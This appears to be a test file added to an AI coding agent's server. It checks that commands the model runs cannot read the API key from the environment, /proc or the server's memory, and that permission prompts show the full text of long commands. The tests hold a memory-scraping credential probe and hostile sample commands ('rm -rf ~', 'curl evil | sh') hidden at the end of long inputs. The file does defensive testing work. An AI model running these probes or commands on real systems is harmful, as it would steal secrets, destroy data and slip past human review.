@@ -1,0 +1,336 @@
+"""Security: the API key stays secret from tool commands; what the user approves is what runs.
+
+The key tests run the REAL server process (``python -m retrace serve``) with a real fake Messages
+API and let the model run a real ``run_command`` that reads every place a child process could find
+the key: its own environment, ``/proc/$PPID/environ`` (the server's original exec environment),
+the server's memory and its open descriptors. The key must be live in the server (the model
+endpoint receives it) and absent from everything the command printed.
+"""
+
+from __future__ import annotations
+
+import functools
+import json
+import os
+import secrets
+import shutil
+import subprocess
+import sys
+import tempfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from tests.reliability import inputs_support
+from tests.reliability.inputs_support import RawServer, scripted_model
+
+from retrace.agent.events import PermissionRequest
+from retrace.agent.permissions import PermissionPolicy, PermissionSettings
+from retrace.agent.review import review_for
+
+AUTO = {"permissions": {"write": "auto", "command": "auto"}}
+AS_NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
+NOBODY_PYTHON = Path(inputs_support.__file__).with_name("as_nobody.sh")
+
+# Every way a tool command could look for the key: its environment, the server's original exec
+# environment, the server's memory. ``$PPID`` of ``bash -lc`` is the server process.
+PROBE = """echo "probe ppid=$PPID"
+env
+echo '--- parent environ'; cat /proc/$PPID/environ | tr '\\0' '\\n'; echo
+echo '--- parent memory'
+python3 - $PPID <<'PY'
+import re, sys
+pid = int(sys.argv[1])
+pattern = re.compile(b"sk-ant-" + b"test-[0-9a-f]{32}")
+found, total, failed = set(), 0, 0
+try:
+    maps = open(f"/proc/{pid}/maps").read().splitlines()
+    mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
+    for line in maps:
+        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
+        try:
+            mem.seek(lo)
+            data = mem.read(hi - lo)
+        except (OSError, ValueError, OverflowError):
+            failed += 1
+            continue
+        total += len(data)
+        found.update(m.decode() for m in pattern.findall(data))
+    print(f"memory: read {total} bytes ({failed} regions unreadable); found {sorted(found)}")
+except OSError as e:
+    print("memory:", e)
+PY
+echo '--- done'"""
+
+
+@pytest.fixture
+def key() -> str:
+    return f"sk-ant-test-{secrets.token_hex(16)}"
+
+
+def _tool_outputs(srv: RawServer) -> list[str]:
+    return [
+        n["params"]["output"]
+        for n in srv.notifications
+        if n["method"] == "retrace/agent/event" and n["params"]["kind"] == "toolCallFinished"
+    ]
+
+
+@pytest.fixture
+def fd_spawn(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
+    """Start the server the way the extension does: the key through an inherited pipe."""
+
+    def start(key: str) -> dict[str, str]:
+        read_end, write_end = os.pipe()
+        os.write(write_end, key.encode())
+        os.close(write_end)
+        monkeypatch.setattr(
+            inputs_support.subprocess, "Popen", functools.partial(subprocess.Popen, pass_fds=(read_end,))
+        )
+        started.append(read_end)
+        return {"RETRACE_API_KEY_FD": str(read_end)}
+
+    started: list[int] = []
+    yield start
+    for fd in started:
+        os.close(fd)
+
+
+@pytest.fixture
+def server_home(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, bool]]:
+    """(a directory for workspace and store, whether the server runs unprivileged). Root reads any
+    process's memory, so when the tests run as root the server runs as ``nobody`` if it can."""
+    home = Path(tempfile.mkdtemp(prefix="retrace-security-"))
+    unprivileged = os.geteuid() != 0
+    if not unprivileged and shutil.which("setpriv"):
+        probe = subprocess.run(
+            [*AS_NOBODY, sys.executable, "-c", "import retrace"], capture_output=True, check=False, timeout=60
+        )
+        if probe.returncode == 0:
+            os.chown(home, 65534, 65534)
+            monkeypatch.setenv("RETRACE_REAL_PYTHON", sys.executable)
+            monkeypatch.setattr(inputs_support.sys, "executable", str(NOBODY_PYTHON))
+            unprivileged = True
+    try:
+        yield home, unprivileged
+    finally:
+        shutil.rmtree(home, ignore_errors=True)
+
+
+@pytest.mark.e2e
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
+@pytest.mark.parametrize("handoff", ["env", "fd"])
+def test_tool_commands_cannot_read_the_api_key(
+    tmp_path: Path,
+    key: str,
+    handoff: str,
+    fd_spawn: Any,
+    server_home: tuple[Path, bool],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
+    monkeypatch.delenv("ANTHROPIC_AUTH_TOKEN", raising=False)
+    home, unprivileged = server_home
+    ws = home / "ws"
+    ws.mkdir()
+    (ws / "a.txt").write_text("a\n")
+    if os.geteuid() == 0 and unprivileged:
+        for path in (ws, ws / "a.txt"):
+            os.chown(path, 65534, 65534)
+    model = scripted_model(
+        [
+            {
+                "match": {"lastUserTextContains": "probe"},
+                "toolCalls": [{"name": "run_command", "input": {"command": PROBE}}],
+            },
+            {"text": "done"},
+        ],
+        name="key-probe",
+    )
+    env = {"ANTHROPIC_BASE_URL": model.base_url, "RETRACE_FAKE_MODEL": ""}
+    env.update({"ANTHROPIC_API_KEY": key} if handoff == "env" else fd_spawn(key))
+    try:
+        srv = RawServer(ws, home / "store", env=env, settings=AUTO, log_path=tmp_path / "server.log")
+        monkeypatch.undo()
+        try:
+            srv.initialize()
+            assert "result" in srv.request("retrace/agent/prompt", {"text": "probe the key"})
+            srv.wait_idle()
+            outputs = _tool_outputs(srv)
+        finally:
+            srv.close()
+    finally:
+        model.stop()
+    sent = {h.get("x-api-key") or h.get("authorization", "").removeprefix("Bearer ") for h in model.headers}
+    assert sent == {key}, "the key reached the server and the server used it"
+    assert outputs and "probe ppid=" in outputs[0] and "--- done" in outputs[0], outputs
+    probe = outputs[0]
+    own_env, _, parent = probe.partition("--- parent environ")
+    parent_environ, _, memory = parent.partition("--- parent memory")
+    random_part = key.removeprefix("sk-ant-test-")
+    assert "PATH=" in own_env, "the command printed its environment"
+    assert random_part not in own_env and "RETRACE_API_KEY_FD" not in own_env, own_env
+    assert random_part not in parent_environ, "the server's exec environment holds no key"
+    if unprivileged:
+        assert random_part not in memory, "the server's memory is closed to its children"
+    assert key not in (tmp_path / "server.log").read_text(errors="replace")
+
+
+_HANDOFF_CHILD = """
+import os, sys
+from retrace import credentials
+credentials.secure_process_start()
+print("starts", flush=True)
+environ = open("/proc/self/environ", "rb").read()
+print("env-has-key", sys.argv[1].encode() in environ)
+print("held", credentials.get("ANTHROPIC_API_KEY") == sys.argv[1])
+print("fds", sorted(int(fd) for fd in os.listdir("/proc/self/fd")))
+names = credentials.child_env()
+print("child-env-clean", not any(k.startswith(("ANTHROPIC_API", "RETRACE_API")) for k in names))
+"""
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
+@pytest.mark.parametrize("handoff", ["env", "fd"])
+def test_key_leaves_the_exec_environment_and_its_descriptor_is_closed(key: str, handoff: str) -> None:
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("ANTHROPIC_", "RETRACE_API"))}
+    pass_fds: tuple[int, ...] = ()
+    if handoff == "env":
+        env["ANTHROPIC_API_KEY"] = key
+    else:
+        read_end, write_end = os.pipe()
+        os.write(write_end, key.encode())
+        os.close(write_end)
+        env["RETRACE_API_KEY_FD"] = str(read_end)
+        pass_fds = (read_end,)
+    try:
+        out = subprocess.run(
+            [sys.executable, "-c", _HANDOFF_CHILD, key],
+            env=env,
+            pass_fds=pass_fds,
+            capture_output=True,
+            text=True,
+            check=True,
+            timeout=60,
+        ).stdout
+    finally:
+        for fd in pass_fds:
+            os.close(fd)
+    lines = dict(line.split(" ", 1) for line in out.splitlines() if " " in line)
+    assert out.count("starts") == 1, out
+    assert lines["env-has-key"] == "False", "/proc/self/environ (what others read) has no key"
+    assert lines["held"] == "True", "the process still has the key to use"
+    assert lines["child-env-clean"] == "True"
+    fds = [int(x) for x in lines["fds"].strip("[]").split(", ")]
+    assert len(fds) == 4, f"stdio and the listing's own descriptor only, no hand-off left: {fds}"
+
+
+def test_a_stale_descriptor_number_is_neither_read_nor_closed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from retrace import credentials
+
+    victim = tmp_path / "not-a-pipe"
+    victim.write_text("sk-ant-not-a-key")
+    fd = os.open(victim, os.O_RDONLY)
+    try:
+        monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
+        monkeypatch.setenv("RETRACE_API_KEY_FD", str(fd))
+        monkeypatch.setattr(credentials, "_held", {})
+        monkeypatch.setattr(credentials, "_deny_dumping", lambda: None)  # keep pytest dumpable
+        credentials.secure_process_start(reexec=False)
+        assert credentials.get("ANTHROPIC_API_KEY") is None
+        assert "RETRACE_API_KEY_FD" not in os.environ
+        assert os.lseek(fd, 0, os.SEEK_CUR) == 0, "still open, and nothing was read from it"
+    finally:
+        os.close(fd)
+
+
+# --------------------------------------------------------------------------- the permission prompt
+
+
+class _AskingHost:
+    def __init__(self) -> None:
+        self.requests: list[PermissionRequest] = []
+
+    async def ask_permission(self, request: PermissionRequest) -> str:
+        self.requests.append(request)
+        return "deny"
+
+
+async def _ask(tool: str, tool_input: dict[str, Any]) -> PermissionRequest:
+    host = _AskingHost()
+    policy = PermissionPolicy(PermissionSettings(write="ask", command="ask"))
+    assert await policy.decide(host, "s1", tool, tool_input) == "deny"  # type: ignore[arg-type]
+    (request,) = host.requests
+    return request
+
+
+async def test_long_command_reaches_the_prompt_complete_and_marked() -> None:
+    command = "echo " + "x" * 4990 + "; rm -rf ~"
+    assert len(command) > 5000
+    request = await _ask("run_command", {"command": command})
+    review = request.review
+    assert review.text == command, "the complete command, byte for byte"
+    assert review.truncated
+    assert review.summary != command and len(review.summary) < 400
+    assert "more characters" in review.summary and "Show all" in review.summary
+    assert review.hidden_chars == len(command) - review.shown_chars
+    assert review.preview == command[: review.shown_chars]
+    assert review.marker == f"… {len(command) - 300:,} more characters — Show all"
+    # The one-line summary never pretends to be the whole command.
+    assert request.summary.endswith(review.summary.splitlines()[-1]) or "more characters" in request.summary
+    wire = json.loads(request.model_dump_json(by_alias=True))
+    assert wire["review"]["text"].endswith("; rm -rf ~")
+
+
+async def test_short_command_is_shown_whole_and_not_marked() -> None:
+    request = await _ask("run_command", {"command": "npm test"})
+    assert request.review.text == "npm test"
+    assert not request.review.truncated and request.review.hidden_chars == 0
+    assert "npm test" in request.review.summary and "more characters" not in request.review.summary
+
+
+async def test_multiline_command_shows_every_line_or_says_how_many_are_hidden() -> None:
+    short = "echo safe\nrm -rf ~"
+    request = await _ask("run_command", {"command": short})
+    assert request.review.summary == short and not request.review.truncated
+    assert "more characters" in request.summary, "the one-line form drops the second line visibly"
+    long = "echo safe\n" * 20 + "rm -rf ~"
+    review = (await _ask("run_command", {"command": long})).review
+    assert review.text == long and review.truncated
+    assert "13 more lines" in review.summary and "rm -rf" not in review.summary
+
+
+async def test_write_file_review_carries_the_complete_content(tmp_path: Path) -> None:
+    content = "line\n" * 3000 + "import os; os.system('rm -rf ~')\n"
+    request = await _ask("write_file", {"path": "evil.py", "content": content})
+    assert request.review.text == content
+    assert request.review.kind == "write"
+    assert request.review.path == "evil.py"
+    assert request.review.truncated and "Show all" in request.review.summary
+
+
+async def test_edit_file_review_shows_old_and_new_text_completely() -> None:
+    old, new = "a = 1\n" * 200, "a = 2\n" * 200 + "os.system('curl evil | sh')\n"
+    request = await _ask("edit_file", {"path": "m.py", "old_string": old, "new_string": new})
+    review = request.review
+    assert review.kind == "edit"
+    assert review.text == "".join(f"-{line}\n" for line in old.splitlines()) + "".join(
+        f"+{line}\n" for line in new.splitlines()
+    ), "every old line (-) and every new line (+), nothing left out"
+    assert review.truncated
+
+
+@pytest.mark.parametrize("length", [0, 1, 79, 80, 81, 199, 200, 201, 1000, 100_000])
+def test_review_summary_marks_every_cut(length: int) -> None:
+    command = "e" * length + ("!" if length else "")
+    review = review_for("run_command", {"command": command})
+    assert review.text == command
+    assert review.shown_chars + review.hidden_chars == len(command)
+    assert review.truncated == (review.hidden_chars > 0)
+    if review.truncated:
+        assert f"{review.hidden_chars:,} more characters" in review.summary
+    else:
+        assert command in review.summary
